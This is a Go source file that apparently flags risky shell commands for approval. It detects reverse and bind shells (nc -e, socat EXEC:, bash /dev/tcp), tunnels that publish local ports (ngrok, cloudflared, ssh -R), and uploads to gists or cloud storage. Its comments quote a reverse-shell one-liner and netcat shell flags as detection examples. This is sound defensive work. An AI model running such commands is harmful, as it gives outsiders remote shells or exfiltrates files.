@@ -1,0 +1,368 @@
+package approvals
+
+import (
+	"fmt"
+	"path/filepath"
+	"slices"
+	"strings"
+)
+
+// Some commands hand this machine, or its files, to others: a shell bound
+// to a socket (nc -e, socat EXEC:, a shell on bash's /dev/tcp), a tunnel
+// that publishes a local port on the internet (ngrok, cloudflared,
+// localtunnel, bore, tailscale funnel, ssh -R), files copied to cloud
+// storage or a gist. Each needs the network: a sandbox that keeps the
+// command off it stops them (nothing outside reaches its network
+// namespace, and the proxy asks for every host it contacts).
+
+// shellPrograms are the interpreters that read commands from their input.
+var shellPrograms = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true,
+	"ash": true, "fish": true, "csh": true, "tcsh": true, "pwsh": true}
+
+// exposure records what prog's command hands to the network.
+func (as *assessor) exposure(prog string, args, ops []string) {
+	expose := func(cat RiskCategory, fact string) { as.stoppedIf(as.offline(), RiskHigh, cat, fact) }
+	switch prog {
+	case "nc", "ncat", "netcat":
+		if fact := netcatShell(prog, args); fact != "" {
+			expose(SystemModification, fact)
+		}
+	case "socat":
+		if fact := socatShell(args); fact != "" {
+			expose(SystemModification, fact)
+		}
+	case "gh":
+		if wordsAt(ops, "gist", "create") >= 0 {
+			files := slices.DeleteFunc(slices.Clone(ops[wordsAt(ops, "gist", "create")+2:]), func(f string) bool { return f == "-" })
+			where := "a GitHub gist"
+			if hasFlag(args, "--public", "-p") {
+				where = "a public GitHub gist"
+			}
+			for _, f := range files {
+				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.display(as.abs(f), false), where))
+				as.reads(f)
+			}
+		}
+	}
+	if fact := tunnelExposure(prog, args, ops); fact != "" {
+		expose(DataExfiltration, fact)
+	}
+	if srcs, dest := cloudUpload(prog, args, ops); dest != "" {
+		for _, src := range srcs {
+			expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.display(as.abs(src), false), dest))
+			as.reads(src)
+		}
+	}
+}
+
+// shellOnSocket records a shell whose input or output is a network
+// connection (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, or a descriptor an
+// earlier `exec N<>/dev/tcp/...` opened): a remote shell for HOST.
+func (as *assessor) shellOnSocket(host string) {
+	as.stoppedIf(as.offline(), RiskHigh, SystemModification, "gives a shell to "+host+" (a connection from bash's /dev/tcp)")
+}
+
+// netcatShell says what nc's command hands a connection (-e PROG, -c CMD,
+// ncat's --exec and --sh-exec): a fact, or "".
+func netcatShell(prog string, args []string) string {
+	exe, port := "", ""
+	listen := false
+	var ops []string
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		next := func() string {
+			if i+1 < len(args) {
+				i++
+				return args[i]
+			}
+			return ""
+		}
+		switch {
+		case a == "--exec" || a == "--sh-exec" || a == "--lua-exec":
+			exe = next()
+		case strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") || strings.HasPrefix(a, "--lua-exec="):
+			exe = a[strings.IndexByte(a, '=')+1:]
+		case a == "--listen":
+			listen = true
+		case a == "--source-port":
+			port = next()
+		case a == "--proxy" || a == "--proxy-type" || a == "--proxy-auth" || a == "--source" || a == "--wait" || a == "--idle-timeout":
+			next()
+		case strings.HasPrefix(a, "--"):
+		case strings.HasPrefix(a, "-") && len(a) > 1:
+			// Short options, possibly combined: -lvnp 4444, -e/bin/sh.
+			for j := 1; j < len(a); j++ {
+				c := a[j]
+				if c == 'l' {
+					listen = true
+					continue
+				}
+				if strings.IndexByte("ecpswiqxXOITVMmo", c) < 0 {
+					continue
+				}
+				v := a[j+1:]
+				if v == "" {
+					v = next()
+				}
+				switch c {
+				case 'e', 'c':
+					exe = v
+				case 'p':
+					port = v
+				}
+				break
+			}
+		default:
+			ops = append(ops, a)
+		}
+	}
+	if exe == "" {
+		return ""
+	}
+	host := ""
+	for _, op := range ops {
+		if looksNumeric(op) && !strings.Contains(op, ".") {
+			if port == "" {
+				port = op
+			}
+			continue
+		}
+		if host == "" {
+			host = op
+		}
+	}
+	if listen || host == "" {
+		return fmt.Sprintf("gives `%s` to whoever connects to port %s (%s -e)", exe, port, prog)
+	}
+	return fmt.Sprintf("gives `%s` to %s, which connects to it (%s -e)", exe, host, prog)
+}
+
+// socatAddress sorts one socat address: "exec" (what = the program),
+// "listen" (the port) or "connect" (the host); "" for the rest (files,
+// stdio, pipes).
+func socatAddress(addr string) (kind, what string) {
+	typ, rest, ok := strings.Cut(addr, ":")
+	if !ok {
+		return "", ""
+	}
+	fields := strings.Split(strings.SplitN(rest, ",", 2)[0], ":")
+	switch typ = strings.ToUpper(typ); {
+	case typ == "EXEC" || typ == "SYSTEM":
+		return "exec", strings.SplitN(rest, ",", 2)[0]
+	case strings.HasSuffix(typ, "-LISTEN") || strings.HasSuffix(typ, "-L") || typ == "UDP-RECV" || typ == "UDP-RECVFROM":
+		return "listen", fields[0]
+	case typ == "TCP" || typ == "TCP4" || typ == "TCP6" || typ == "UDP" || typ == "UDP4" || typ == "UDP6" ||
+		typ == "OPENSSL" || typ == "SSL" || typ == "SCTP" || typ == "TCP-CONNECT" || typ == "UDP-CONNECT" ||
+		typ == "OPENSSL-CONNECT" || typ == "SCTP-CONNECT" || typ == "UDP-SENDTO":
+		if len(fields) >= 2 {
+			return "connect", strings.Trim(fields[0], "[]")
+		}
+	case typ == "SOCKS4" || typ == "SOCKS4A" || typ == "SOCKS5" || typ == "PROXY":
+		return "connect", fields[0] // the proxy
+	}
+	return "", ""
+}
+
+// socatAddresses are socat's two addresses (its first two operands).
+func socatAddresses(args []string) []string {
+	var out []string
+	for i := 0; i < len(args) && len(out) < 2; i++ {
+		switch a := args[i]; {
+		case a == "-b" || a == "-t" || a == "-T" || a == "-lf" || a == "-lp" || a == "-L" || a == "-W" || a == "-r" || a == "-R":
+			i++
+		case strings.HasPrefix(a, "-") && a != "-":
+		default:
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+// socatShell is the fact for socat joining a program to a socket, or "".
+func socatShell(args []string) string {
+	addrs := socatAddresses(args)
+	if len(addrs) != 2 {
+		return ""
+	}
+	k0, w0 := socatAddress(addrs[0])
+	k1, w1 := socatAddress(addrs[1])
+	if k1 == "exec" {
+		k0, w0, k1, w1 = k1, w1, k0, w0
+	}
+	if k0 != "exec" {
+		return ""
+	}
+	switch k1 {
+	case "listen":
+		return fmt.Sprintf("gives `%s` to whoever connects to port %s (socat)", w0, w1)
+	case "connect":
+		return fmt.Sprintf("gives `%s` to %s, which connects to it (socat)", w0, w1)
+	}
+	return ""
+}
+
+// tunnelExposure is the fact for a command that publishes a local port
+// through a tunnel, or "".
+func tunnelExposure(prog string, args, ops []string) string {
+	if hasFlag(args, "--help", "-h") || len(ops) == 0 && prog != "lt" && prog != "ssh" {
+		return ""
+	}
+	switch prog {
+	case "ngrok":
+		switch ops[0] {
+		case "http", "tcp", "tls":
+			target := "a local port"
+			switch {
+			case len(ops) > 1 && looksNumeric(ops[1]):
+				target = "local port " + ops[1]
+			case len(ops) > 1:
+				target = ops[1]
+			}
+			return fmt.Sprintf("publishes %s on the internet through a tunnel (ngrok %s)", target, ops[0])
+		case "start", "tunnel":
+			return "publishes local ports on the internet through a tunnel (ngrok " + ops[0] + ")"
+		}
+	case "cloudflared":
+		if i := wordsAt(ops, "tunnel"); i >= 0 {
+			if u := optionValue(args, "--url", "--url"); u != "" {
+				return fmt.Sprintf("publishes %s on the internet through a tunnel (cloudflared tunnel)", u)
+			}
+			if wordsAt(ops, "tunnel", "run") >= 0 || len(ops) == i+1 {
+				return "publishes local services on the internet through a tunnel (cloudflared tunnel)"
+			}
+		}
+	case "lt", "localtunnel":
+		if p := optionValue(args, "-p", "--port"); p != "" {
+			return fmt.Sprintf("publishes local port %s on the internet through a tunnel (%s)", p, prog)
+		}
+	case "bore":
+		if ops[0] == "local" && len(ops) > 1 {
+			return fmt.Sprintf("publishes local port %s on the internet through a tunnel (bore local)", ops[1])
+		}
+	case "tailscale":
+		if ops[0] == "funnel" && len(ops) > 1 && ops[1] != "status" && ops[1] != "reset" && ops[1] != "off" {
+			return fmt.Sprintf("publishes %s on the internet (tailscale funnel)", ops[1])
+		}
+	case "ssh":
+		if fwd := sshRemoteForwards(args); len(fwd) > 0 {
+			host, _ := sshTarget(args)
+			if at := strings.LastIndex(host, "@"); at >= 0 {
+				host = host[at+1:]
+			}
+			return fmt.Sprintf("opens %s on %s to this machine (ssh -R %s)", fwdListen(fwd[0]), host, fwd[0])
+		}
+	}
+	return ""
+}
+
+// sshRemoteForwards are the values of ssh's -R options.
+func sshRemoteForwards(args []string) []string {
+	var out []string
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		if a == "--" || !strings.HasPrefix(a, "-") {
+			break // the destination: the rest is the remote command
+		}
+		for j := 1; j < len(a); j++ {
+			if strings.IndexByte("BbcDEeFIiJLlmOoPpQRSWw", a[j]) < 0 {
+				continue
+			}
+			v := a[j+1:]
+			if v == "" && i+1 < len(args) {
+				i++
+				v = args[i]
+			}
+			if a[j] == 'R' {
+				out = append(out, v)
+			}
+			break
+		}
+	}
+	return out
+}
+
+// fwdListen names the remote end of an ssh -R forward ([bind:]port:...).
+func fwdListen(spec string) string {
+	parts := strings.Split(spec, ":")
+	if len(parts) >= 4 {
+		return "port " + parts[1] + " (bound to " + parts[0] + ")"
+	}
+	return "port " + parts[0]
+}
+
+// cloudUpload says which local paths prog's command copies to cloud
+// storage, and where (dest "" when it copies none).
+func cloudUpload(prog string, args, ops []string) (srcs []string, dest string) {
+	remote := func(s string) bool { return strings.Contains(s, "://") }
+	copyTo := func(verbAt int) ([]string, string) {
+		rest := ops[verbAt:]
+		if len(rest) < 2 || !remote(rest[len(rest)-1]) {
+			return nil, ""
+		}
+		for _, s := range rest[:len(rest)-1] {
+			if !remote(s) {
+				srcs = append(srcs, s)
+			}
+		}
+		if len(srcs) == 0 {
+			return nil, ""
+		}
+		return srcs, rest[len(rest)-1]
+	}
+	switch prog {
+	case "aws":
+		for _, verb := range []string{"cp", "mv", "sync"} {
+			if i := wordsAt(ops, "s3", verb); i >= 0 {
+				return copyTo(i + 2)
+			}
+		}
+	case "gsutil":
+		for i, op := range ops {
+			if op == "cp" || op == "mv" || op == "rsync" {
+				return copyTo(i + 1)
+			}
+		}
+	case "gcloud":
+		for _, verb := range []string{"cp", "mv", "rsync"} {
+			if i := wordsAt(ops, "storage", verb); i >= 0 {
+				return copyTo(i + 2)
+			}
+		}
+	case "azcopy":
+		if len(ops) > 0 && (ops[0] == "copy" || ops[0] == "cp" || ops[0] == "sync") {
+			return copyTo(1)
+		}
+	case "az":
+		if wordsAt(ops, "storage", "blob", "upload") >= 0 || wordsAt(ops, "storage", "blob", "upload-batch") >= 0 {
+			src := optionValue(args, "-f", "--file")
+			if src == "" {
+				src = optionValue(args, "-s", "--source")
+			}
+			if src != "" {
+				return []string{src}, "Azure storage"
+			}
+		}
+	case "rclone":
+		// rclone names remotes NAME:path; a local path has no colon
+		// before its first slash.
+		isRemote := func(s string) bool {
+			i := strings.IndexByte(s, ':')
+			return i > 0 && !strings.Contains(s[:i], "/")
+		}
+		if len(ops) >= 3 && slices.Contains([]string{"copy", "sync", "move", "copyto", "moveto", "bisync"}, ops[0]) &&
+			isRemote(ops[2]) && !isRemote(ops[1]) {
+			return []string{ops[1]}, ops[2] + " (rclone " + ops[0] + ")"
+		}
+	}
+	return nil, ""
+}
+
+// readsCommands says whether argv is a shell that takes its commands from
+// its input: no script operand (`sh`, `bash -i`, `bash -s`).
+func readsCommands(argv []string) bool {
+	if !shellPrograms[filepath.Base(argv[0])] {
+		return false
+	}
+	args := argv[1:]
+	return hasFlag(args, "-i", "-s") || len(operands(args)) == 0 && !hasFlag(args, "-c")
+}
